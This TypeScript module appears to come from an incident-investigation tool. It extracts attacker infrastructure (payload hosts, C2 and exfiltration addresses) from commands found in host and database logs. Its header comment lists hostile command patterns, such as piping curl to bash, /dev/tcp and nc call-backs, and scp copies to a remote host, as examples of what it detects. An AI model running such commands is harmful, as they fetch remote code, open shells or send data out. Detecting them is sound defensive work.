/**
 * Commands the attacker ran → the infrastructure they name: a payload server (`curl http://IP/x |
 * bash`), a call-back address (`/dev/tcp/IP/PORT`, `nc IP PORT`), a copy destination (`scp f
 * user@IP:`), in sudo and cron command lines and in SQL that runs programs (`COPY … PROGRAM`).
 * Each becomes an attacker address with the command as its evidence; the address link then
 * follows the traffic to it (flows, egress bytes). Internal addresses, addresses of the estate's
 * own hosts and shared addresses are not taken: a command copying to a backup server names the
 * backup server, not the attacker — flows from compromised hosts to them are the host links'.
 */
import { inGroup } from '../../core/vocabulary.js';
import { indicatorsInCommand } from '../indicators.js';
import { isPrivateIp } from '../knowledge.js';
import type { LinkContext } from './context.js';
import type { RoundLink } from './types.js';

export const commandIndicatorsLink: RoundLink = {
  name: 'command_indicators',
  describe: "commands the attacker ran (sudo, cron jobs, SQL running programs) → the external addresses they fetch from, call back to or copy to (attacker infrastructure, the command as evidence) → the traffic to them",
  run: commandIndicators,
};

const ROLE = { download: 'payload_host', callback: 'c2', copy: 'exfil_destination' } as const;

async function commandIndicators(ctx: LinkContext): Promise<void> {
  const ids = [...ctx.fp.events.keys()].filter((id) => !ctx.indicatorsSeen.has(id));
  if (ids.length === 0) return;
  for (const id of ids) ctx.indicatorsSeen.add(id);
  // The footprint's own events, as the links read them: no need to read the case again.
  const rows = (await ctx.footprintRows(ids)).filter(
    (r) => r.command !== null && r.outcome !== 'failure' && (inGroup('host_command', r.action) || (r.action.startsWith('db_') && /\bprogram\b/i.test(r.command))),
  );
  for (const r of rows) {
    if (r.action === 'sudo_failed') continue;
    for (const ind of indicatorsInCommand(r.command!)) {
      if (isPrivateIp(ind.ip) || ctx.sharedAddresses.has(ind.ip) || ctx.fp.hosts.hostOf(ind.ip) !== null) continue;
      const where = r.host ? ` on ${r.host}` : '';
      const ip = ctx.fp.add('ip', ind.ip, null, ROLE[ind.use], `named in a command the attacker ran${where} (${ind.use}${ind.port ? ` port ${ind.port}` : ''}): ${r.command!.slice(0, 120)}`, { eventIds: [r.event_id] });
      ctx.fp.touch(ip, r.ts_us, r.event_id);
    }
  }
}
